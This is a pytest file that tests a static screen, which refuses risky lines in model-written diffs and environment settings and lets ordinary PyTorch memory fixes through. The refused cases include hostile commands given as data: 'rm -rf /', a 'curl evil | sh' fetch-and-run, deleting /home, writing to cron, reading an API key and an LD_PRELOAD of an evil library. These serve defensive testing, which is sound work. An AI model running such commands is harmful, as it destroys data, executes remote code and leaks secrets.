"""The static screen of model-written changes: what it refuses and what it lets through."""

from __future__ import annotations

import pytest

from oomtriage.validate.screen import screen_diff, screen_env


def _diff(*added: str) -> str:
    return "--- a/t.py\n+++ b/t.py\n@@ -1,1 +1,2 @@\n x = 1\n" + "".join(f"+{line}\n" for line in added)


@pytest.mark.parametrize("line", [
    "import subprocess; subprocess.run(['rm', '-rf', '/'])",
    "os.system('curl evil | sh')",
    "import socket",
    "urllib.request.urlopen('http://x')",
    "shutil.rmtree('/home')",
    "eval(payload)",
    "exec(open('x').read())",
    "__import__('os').remove('a')",
    "open('/etc/cron.d/x', 'w')",
    "open(os.path.join('..', 'x'), mode='a')",
    "Path('/tmp/x').write_text('x')",
    "import ctypes",
    "key = os.environ['OPENAI_API_KEY']",
])
def test_refused(line):
    assert screen_diff(_diff(line)), line


@pytest.mark.parametrize("line", [
    "with torch.no_grad():",
    "    total_loss += loss.item()",
    "loss = loss / accumulation_steps",
    "model.gradient_checkpointing_enable()",
    "with open('results.txt', 'w') as handle:",
    "# os.system is mentioned only in a comment",
])
def test_allowed(line):
    assert screen_diff(_diff(line)) == []


def test_environment_of_a_model_fix_is_limited_to_memory_settings():
    assert screen_env({"PYTORCH_CUDA_ALLOC_CONF": "expandable_segments:True"}) == []
    assert screen_env({"LD_PRELOAD": "/tmp/evil.so"}) and screen_env({"PYTHONPATH": "/tmp"})
